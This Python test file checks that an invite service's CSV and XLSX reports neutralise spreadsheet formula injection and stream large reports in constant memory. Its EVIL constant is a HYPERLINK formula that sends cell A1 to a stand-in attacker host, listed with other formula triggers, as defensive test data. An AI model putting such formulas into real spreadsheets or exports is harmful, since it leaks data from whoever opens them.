"""CSV and XLSX reports: one row per target, formulas made inert, and constant memory at 100,000 targets."""

from __future__ import annotations

import asyncio
import csv
import io
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest

from invite_service.db import Database
from invite_service.kit.tabular.csv_out import neutralize as neutralise
from tests.statistics.helpers import bulk_targets, make_task

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
TRIGGERS = [EVIL, "+1+1", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"]


def test_every_formula_trigger_gets_an_apostrophe_and_nothing_else_changes() -> None:
    for value in TRIGGERS:
        assert neutralise(value) == "'" + value
    for value in ("Anna", "O'Brien", "1+1", "", "a=b", 42, None):
        assert neutralise(value) == value


@pytest.mark.asyncio
async def test_formulas_come_out_inert_in_csv_and_xlsx(client: httpx.AsyncClient, new_user) -> None:  # type: ignore[no-untyped-def]
    h = new_user()
    rows = [{"username": f"evil_{i}", "first_name": name} for i, name in enumerate(TRIGGERS[:4])]
    rows.append({"username": "plain_one", "first_name": "Anna", "last_name": "@home"})
    tid = await make_task(client, h, rows)

    resp = await client.get(f"/api/v1/tasks/{tid}/report", params={"format": "csv"}, headers=h)
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("text/csv")
    assert f'filename="task-{tid}-report.csv"' in resp.headers["content-disposition"]
    table = list(csv.DictReader(io.StringIO(resp.content.decode("utf-8-sig"))))
    assert len(table) == 5
    names = {r["username"]: r for r in table}
    assert names["evil_0"]["first_name"] == "'" + EVIL
    assert all(names[f"evil_{i}"]["first_name"].startswith("'") for i in range(4))
    assert names["plain_one"]["first_name"] == "Anna" and names["plain_one"]["last_name"] == "'@home"

    resp = await client.get(f"/api/v1/tasks/{tid}/report", params={"format": "xlsx"}, headers=h)
    assert resp.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(resp.content))
    sheet = workbook["Targets"]
    header = [c.value for c in sheet[1]]
    cells = {row[header.index("username")].value: row for row in sheet.iter_rows(min_row=2)}
    evil = cells["evil_0"][header.index("first_name")]
    # XLSX: a typed string cell, shown as written and never evaluated: no apostrophe needed.
    assert evil.data_type == "s" and evil.value == EVIL
    with zipfile.ZipFile(io.BytesIO(resp.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    assert workbook["Summary"]["B3"].value == "draft"


class _Sink:
    """An ASGI ``send`` that writes the body to a file and keeps nothing in memory."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.status = 0

    async def __call__(self, message: dict[str, Any]) -> None:
        if message["type"] == "http.response.start":
            self.status = message["status"]
        elif message["type"] == "http.response.body":
            with self.path.open("ab") as fh:
                fh.write(message.get("body", b""))


async def download(app, tid: str, fmt: str, auth: str, out: Path) -> int:  # type: ignore[no-untyped-def]
    """GET the report through the ASGI app itself, the body to ``out``; returns the peak memory growth.

    No HTTP client sits in between (httpx's ASGI transport would hold the whole body in memory), so
    tracemalloc sees only what the service allocates.
    """
    done = asyncio.Event()
    sent = False

    async def receive() -> dict[str, Any]:
        nonlocal sent
        if not sent:
            sent = True
            return {"type": "http.request", "body": b"", "more_body": False}
        await done.wait()
        return {"type": "http.disconnect"}

    path = f"/api/v1/tasks/{tid}/report"
    scope = {
        "type": "http",
        "asgi": {"version": "3.0", "spec_version": "2.3"},
        "http_version": "1.1",
        "method": "GET",
        "scheme": "http",
        "path": path,
        "raw_path": path.encode(),
        "root_path": "",
        "query_string": f"format={fmt}".encode(),
        "headers": [(b"authorization", auth.encode())],
        "client": ("127.0.0.1", 1),
        "server": ("test", 80),
        "state": {},
    }
    sink = _Sink(out)
    tracemalloc.reset_peak()
    base = tracemalloc.get_traced_memory()[0]
    await app(scope, receive, sink)
    peak = tracemalloc.get_traced_memory()[1] - base
    done.set()
    assert sink.status == 200
    return peak


async def peaks_of(app, fmt: str, tasks: dict[int, str], auth: str, tmp: Path) -> dict[int, int]:  # type: ignore[no-untyped-def]
    tracemalloc.start()
    try:
        await download(app, tasks[min(tasks)], fmt, auth, tmp / f"warm-up.{fmt}")  # imports, caches, pools
        return {n: await download(app, tid, fmt, auth, tmp / f"{n}.{fmt}") for n, tid in tasks.items()}
    finally:
        tracemalloc.stop()


def assert_constant(peaks: dict[int, int]) -> None:
    # Ten times the rows, about the same memory: the growth does not scale with the rows (a report
    # held in memory would grow tenfold: ~10 MB of CSV, far more as Python rows).
    small, large = sorted(peaks)
    assert large == 10 * small
    assert peaks[large] < 1.5 * peaks[small] + 512 * 1024, peaks
    assert peaks[large] < 8 * 1024 * 1024, peaks


@pytest.fixture
def once_on_sqlite(db_url: str) -> None:
    # A minute under tracemalloc; the writer does not depend on the database, and the page reads it shares
    # with the CSV report are measured on both databases there. (Before ``big_tasks``: skip, then seed.)
    if not db_url.startswith("sqlite"):
        pytest.skip("the XLSX writer is measured once, on SQLite")


async def seed(
    client: httpx.AsyncClient, h: dict[str, str], database: Database, sizes: tuple[int, int]
) -> dict[int, str]:
    """A task per size whose first target is named like a formula."""
    tasks = {}
    for n in sizes:
        tasks[n] = await make_task(client, h)
        await bulk_targets(database, tasks[n], h["X-Test-User"], n, first={"first_name": EVIL})
    return tasks


@pytest.fixture
async def big_tasks(client: httpx.AsyncClient, new_user, database: Database) -> tuple[dict[int, str], str]:  # type: ignore[no-untyped-def]
    """A 10,000- and a 100,000-target task."""
    h = new_user()
    return await seed(client, h, database, (10_000, 100_000)), h["Authorization"]


@pytest.fixture
async def xlsx_tasks(client: httpx.AsyncClient, new_user, database: Database) -> tuple[dict[int, str], str]:  # type: ignore[no-untyped-def]
    """A 2,000- and a 20,000-target task: openpyxl under tracemalloc is slow, and ten times the rows
    shows a growth with the rows as well at this size."""
    h = new_user()
    return await seed(client, h, database, (2_000, 20_000)), h["Authorization"]


@pytest.mark.slow
@pytest.mark.asyncio
async def test_a_csv_report_of_100k_targets_downloads_in_constant_memory(
    app, big_tasks, tmp_path: Path
) -> None:  # type: ignore[no-untyped-def]
    tasks, auth = big_tasks
    peaks = await peaks_of(app, "csv", tasks, auth, tmp_path)
    assert_constant(peaks)
    with (tmp_path / "100000.csv").open(encoding="utf-8-sig", newline="") as fh:
        reader = csv.DictReader(fh)
        assert next(reader)["first_name"] == "'" + EVIL
        assert sum(1 for _ in reader) == 99_999


def count_xlsx_rows(path: Path, sheet: str = "xl/worksheets/sheet2.xml") -> int:
    """Rows in a sheet, counted in the raw XML as it streams out of the archive (no workbook in memory)."""
    count, tail = 0, b""
    with zipfile.ZipFile(path) as archive, archive.open(sheet) as xml:
        while chunk := xml.read(1 << 20):
            data = tail + chunk
            count += data.count(b"</row>")
            tail = data[-5:]
    return count


@pytest.mark.slow
@pytest.mark.asyncio
async def test_an_xlsx_report_of_20k_targets_downloads_in_constant_memory(  # type: ignore[no-untyped-def]
    app, once_on_sqlite: None, xlsx_tasks, tmp_path: Path
) -> None:
    tasks, auth = xlsx_tasks
    peaks = await peaks_of(app, "xlsx", tasks, auth, tmp_path)
    assert_constant(peaks)
    workbook = openpyxl.load_workbook(tmp_path / "20000.xlsx", read_only=True)
    first = next(workbook["Targets"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert first[6] == EVIL  # a typed string cell: no apostrophe
    assert count_xlsx_rows(tmp_path / "20000.xlsx") == 20_001  # the header and a row per target
